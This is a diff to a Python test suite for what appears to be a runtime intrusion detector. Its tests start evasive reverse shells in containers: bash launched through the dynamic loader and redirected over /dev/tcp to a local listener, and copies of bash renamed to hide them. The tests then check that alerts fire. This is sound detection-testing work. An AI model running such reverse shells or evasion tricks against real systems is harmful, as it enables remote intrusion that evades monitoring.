@@ -261,16 +261,28 @@ class Evasion(Watched):
         self.assertIn("42", attacker.converse("echo $((6*7))")[0])
         self.expect_shell(container, attacker.port)
 
-    # Not told where its parent is a shell: commands typed into a reverse shell look the same, and that has its alert.
-    def test_a_copy_of_a_shell_by_another_name(self):
+    def test_a_shell_that_the_loader_starts_with_options(self):
         attacker = Listener()
         self.addCleanup(attacker.close)
-        container = self.make_container("/bin/evade", "shell-renamed", str(attacker.port), "/bin/worker")
-        shutil.copy(shutil.which("bash"), container.rootfs / "bin" / "worker")
-        container.start()
+        loader = "/lib64/ld-linux-x86-64.so.2 --argv0 x --inhibit-cache /usr/bin/bash"
+        container = self.container(
+            "/usr/bin/bash", "-c", f"exec {loader} <>/dev/tcp/127.0.0.1/{attacker.port} >&0 2>&0")
         self.assertIn("42", attacker.converse("echo $((6*7))")[0])
-        self.watch.wait_for(lambda a: a["rule"] == "Program started on a network connection"
-                            and a["origin"] == container.id, "a renamed shell")
+        self.watch.wait_for(lambda a: a["rule"] == "Reverse shell" and a["origin"] == container.id
+                            and "ld-linux" in a["output_fields"]["proc.exepath"], "a loader with options")
+
+    def test_a_copy_of_a_shell_by_another_name(self):
+        for parent, copied in ((), "bin/worker"), (("/bin/sh", "-c", '"$@"; true', "sh"), "tmp/worker"):
+            with self.subTest(copied):
+                attacker = Listener()
+                self.addCleanup(attacker.close)
+                command = "/bin/evade", "shell-renamed", str(attacker.port), f"/{copied}"
+                container = self.make_container(*parent, *command)
+                shutil.copy(shutil.which("bash"), container.rootfs / copied)
+                container.start()
+                self.assertIn("42", attacker.converse("echo $((6*7))")[0])
+                self.watch.wait_for(lambda a: a["rule"] == "Program started on a network connection"
+                                    and a["origin"] == container.id, "a renamed shell")
 
     def test_a_pid_that_another_had_before(self):
         container = self.make_container("/bin/evade", "pid-reused", SECRET, privileged=True, host_pid=True,
